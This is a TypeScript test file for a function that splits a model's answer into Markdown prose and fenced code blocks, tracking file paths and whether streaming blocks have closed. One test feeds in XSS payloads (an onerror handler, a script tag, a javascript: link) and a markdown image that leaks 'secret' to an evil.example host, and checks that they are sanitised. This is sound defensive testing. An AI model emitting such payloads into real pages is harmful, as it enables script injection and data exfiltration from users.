import { describe, expect, it } from "vitest";
import { splitAnswer } from "./splitAnswer.ts";

describe("splitAnswer", () => {
  it("splits prose from code blocks, and reads a proposed file's path", () => {
    const answer = [
      "Change the greeting:",
      "",
      "```ts path=src/greet.ts",
      "export const greeting = 'hi';",
      "```",
      "",
      "Then run it:",
      "",
      "```sh",
      "npm start",
      "```",
    ].join("\n");
    expect(splitAnswer(answer)).toEqual([
      { kind: "prose", html: "<p>Change the greeting:</p>\n" },
      { kind: "code", lang: "ts", path: "src/greet.ts", code: "export const greeting = 'hi';\n", closed: true },
      { kind: "prose", html: "<p>Then run it:</p>\n" },
      { kind: "code", lang: "sh", path: null, code: "npm start\n", closed: true },
    ]);
  });

  it("shows a block still streaming (no closing fence yet) as code", () => {
    expect(splitAnswer("Here:\n\n```ts path=a.ts\nconst a")).toEqual([
      { kind: "prose", html: "<p>Here:</p>\n" },
      { kind: "code", lang: "ts", path: "a.ts", code: "const a", closed: false },
    ]);
  });

  it("tells a block whose closing fence arrived from one cut off, wherever the text stops", () => {
    const closed = (source: string) => splitAnswer(source).flatMap((p) => (p.kind === "code" ? [p.closed] : []));
    expect(closed("```html path=index.html\n<p>a</p>\n```")).toEqual([true]);
    expect(closed("```html path=index.html\n<p>a</p>\n```\n\nDone.")).toEqual([true]);
    expect(closed("````md\n```\ninner\n```\n````\n")).toEqual([true]);
    expect(closed("```html path=index.html\n<!doctype html>\n<html>\n")).toEqual([false]);
    expect(closed("```html path=index.html\n<!doctype html>\n\n")).toEqual([false]);
    expect(closed("```html path=index.html\n")).toEqual([false]);
    // A shorter fence, or one of the other character, does not close it: it is content.
    expect(closed("````md\ntext\n```")).toEqual([false]);
    expect(closed("```md\ntext\n~~~")).toEqual([false]);
    expect(closed("```a.ts\nx\n```\n\n```ts path=b.ts\ny")).toEqual([true, false]);
  });

  it("never passes the model's HTML, script links or images through", () => {
    const [part] = splitAnswer(
      '<img src=x onerror="alert(1)"> <script>alert(1)</script> [click](javascript:alert(1)) ![leak](https://evil.example/?q=secret)',
    );
    expect(part?.kind).toBe("prose");
    const html = part?.kind === "prose" ? part.html : "";
    expect(html).not.toMatch(/<img|<script|href="javascript/i);
    expect(html).toContain("&lt;script&gt;");
  });

  it("renders Markdown prose, with links opening in a new tab", () => {
    const [part] = splitAnswer("**Bold** and `code` and [docs](https://example.com)");
    expect(part).toEqual({
      kind: "prose",
      html: '<p><strong>Bold</strong> and <code>code</code> and <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n',
    });
  });
});
